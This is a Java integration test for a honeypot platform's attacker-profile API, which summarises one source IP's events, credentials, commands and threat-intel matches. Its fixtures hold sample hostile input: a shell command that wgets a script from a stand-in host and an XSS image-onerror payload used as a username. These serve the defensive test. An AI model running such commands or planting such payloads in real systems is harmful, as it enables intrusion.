package io.hsystem.hunting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import io.hsystem.support.IntegrationTest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** {@code GET /api/v1/attackers/{ip}}: a source address's honeypot activity, summarised. */
class AttackerProfileTest extends IntegrationTest {

  private static final String ATTACKER = "45.141.84.12";

  private String ingestKey() throws Exception {
    String body =
        mvc.perform(
                postJson(
                    token("admin"),
                    "/api/v1/ingest/keys",
                    "{\"name\": \"sensor\", \"source_type\": \"hsystem_sensor\"}"))
            .andExpect(status().isCreated())
            .andReturn()
            .getResponse()
            .getContentAsString();
    return json.readTree(body).get("api_key").asString();
  }

  private static Map<String, Object> event(
      String type, String service, String srcIp, Instant t, String... extra) {
    Map<String, Object> r = new LinkedHashMap<>();
    r.put("event_time", t.toString());
    r.put("event_type", type);
    r.put("event_category", "honeypot");
    r.put("sensor_id", "hp-01");
    r.put("host_name", "hp-01");
    r.put("service", service);
    r.put("src_ip", srcIp);
    for (int i = 0; i + 1 < extra.length; i += 2) {
      r.put(extra[i], extra[i + 1]);
    }
    return r;
  }

  private JsonNode profile(String token, String ip) throws Exception {
    return json.readTree(
        mvc.perform(getAs(token, "/api/v1/attackers/" + ip))
            .andExpect(status().isOk())
            .andReturn()
            .getResponse()
            .getContentAsString());
  }

  private static JsonNode manualHit(JsonNode profile) {
    if (profile.get("ioc").isNull()) {
      return null;
    }
    for (JsonNode hit : profile.get("ioc").get("hits")) {
      if (hit.get("source").asString().equals("manual")) {
        return hit;
      }
    }
    return null;
  }

  @Test
  void profileSummarisesOneSourceAddress() throws Exception {
    Instant t = START.minusSeconds(600);
    List<Map<String, Object>> records = new ArrayList<>();
    for (int i = 0; i < 5; i++) {
      records.add(
          event(
              "login_attempt",
              "ssh",
              ATTACKER,
              t.plusSeconds(i),
              "username",
              "root",
              "password",
              "123456"));
    }
    records.add(
        event(
            "login_attempt",
            "ftp",
            ATTACKER,
            t.plusSeconds(10),
            "username",
            "<img src=x onerror=alert(1)>",
            "password",
            "admin"));
    records.add(
        event(
            "command",
            "ssh",
            ATTACKER,
            t.plusSeconds(20),
            "command_line",
            "cd /tmp; wget http://198.51.100.7/x.sh"));
    records.add(event("connection", "telnet", ATTACKER, t.plusSeconds(30)));
    // another attacker's events stay out of the profile
    records.add(
        event(
            "login_attempt",
            "ssh",
            "198.51.100.99",
            t.plusSeconds(40),
            "username",
            "other",
            "password",
            "x"));
    StringBuilder ndjson = new StringBuilder();
    for (Map<String, Object> r : records) {
      ndjson.append(json.writeValueAsString(r)).append('\n');
    }
    mvc.perform(
            post("/api/v1/ingest/events")
                .header("X-API-Key", ingestKey())
                .contentType("application/x-ndjson")
                .content(ndjson.toString()))
        .andExpect(status().isOk())
        .andExpect(jsonPath("$.accepted").value(records.size()));

    String analyst = token("analyst");
    mvc.perform(
            postJson(
                analyst,
                "/api/v1/intel/iocs",
                "{\"value\": \"45.141.84.0/24\", \"confidence\": 70, \"severity\": \"high\","
                    + " \"tags\": [\"scanner\"]}"))
        .andExpect(status().isCreated());
    JsonNode p = null;
    long deadline = System.currentTimeMillis() + 10_000;
    while (System.currentTimeMillis() < deadline) {
      eventStore.refresh();
      p = profile(analyst, ATTACKER);
      if (p.get("events").asLong() == 8 && manualHit(p) != null) {
        break;
      }
      Thread.sleep(50);
    }
    assertThat(p.get("ip").asString()).isEqualTo(ATTACKER);
    assertThat(p.get("events").asLong()).isEqualTo(8);
    assertThat(p.get("first_seen").asString()).isEqualTo("2025-08-27 05:50:00");
    assertThat(p.get("last_seen").asString()).isEqualTo("2025-08-27 05:50:30");
    assertThat(p.get("services").get(0).get("service").asString()).isEqualTo("ssh");
    assertThat(p.get("services").get(0).get("count").asLong()).isEqualTo(6);
    assertThat(p.get("services")).hasSize(3);
    JsonNode top = p.get("credentials").get(0);
    assertThat(top.get("username").asString()).isEqualTo("root");
    assertThat(top.get("password").asString()).isEqualTo("123456");
    assertThat(top.get("count").asLong()).isEqualTo(5);
    assertThat(p.get("credentials")).hasSize(2);
    assertThat(p.get("credentials").get(1).get("username").asString())
        .isEqualTo("<img src=x onerror=alert(1)>");
    assertThat(p.get("credentials_sampled").asBoolean()).isFalse();
    assertThat(p.get("commands").get(0).get("command_line").asString())
        .isEqualTo("cd /tmp; wget http://198.51.100.7/x.sh");
    assertThat(p.get("sensors").get(0).get("sensor_id").asString()).isEqualTo("hp-01");
    assertThat(p.get("sensors").get(0).get("count").asLong()).isEqualTo(8);
    assertThat(p.get("event_types").get(0).get("event_type").asString()).isEqualTo("login_attempt");
    assertThat(p.get("event_types").get(0).get("count").asLong()).isEqualTo(6);
    assertThat(p.get("recent_events")).hasSize(8);
    assertThat(p.get("recent_events").get(0).get("event_type").asString()).isEqualTo("connection");
    // threat intelligence knows its network (and, once recorded, the honeypot's own indicator)
    JsonNode hit = manualHit(p);
    assertThat(hit).isNotNull();
    assertThat(hit.get("value").asString()).isEqualTo("45.141.84.0/24");
    assertThat(hit.get("source").asString()).isEqualTo("manual");
    assertThat(hit.get("confidence").asInt()).isEqualTo(70);
    assertThat(hit.get("tags").get(0).asString()).isEqualTo("scanner");

    JsonNode other = profile(analyst, "198.51.100.99");
    assertThat(other.get("events").asLong()).isEqualTo(1);
    assertThat(other.get("credentials").get(0).get("username").asString()).isEqualTo("other");
    assertThat(manualHit(other)).isNull();
  }

  @Test
  void unknownAddressHasAnEmptyProfile() throws Exception {
    JsonNode p = profile(token("auditor"), "2001:db8::1");
    assertThat(p.get("events").asLong()).isZero();
    assertThat(p.get("first_seen").isNull()).isTrue();
    assertThat(p.get("services")).isEmpty();
    assertThat(p.get("credentials")).isEmpty();
    assertThat(p.get("recent_events")).isEmpty();
    assertThat(p.get("ioc").isNull()).isTrue();
  }

  @Test
  void notAnAddressIsA400WithAStableCode() throws Exception {
    String analyst = token("analyst");
    for (String bad : List.of("999.1.1.1", "example.com", "1.2.3", "not-an-ip")) {
      mvc.perform(getAs(analyst, "/api/v1/attackers/" + bad))
          .andExpect(status().isBadRequest())
          .andExpect(jsonPath("$.code").value("hunting.attacker_ip_invalid"))
          .andExpect(jsonPath("$.errors[0].field").value("ip"));
    }
  }
}
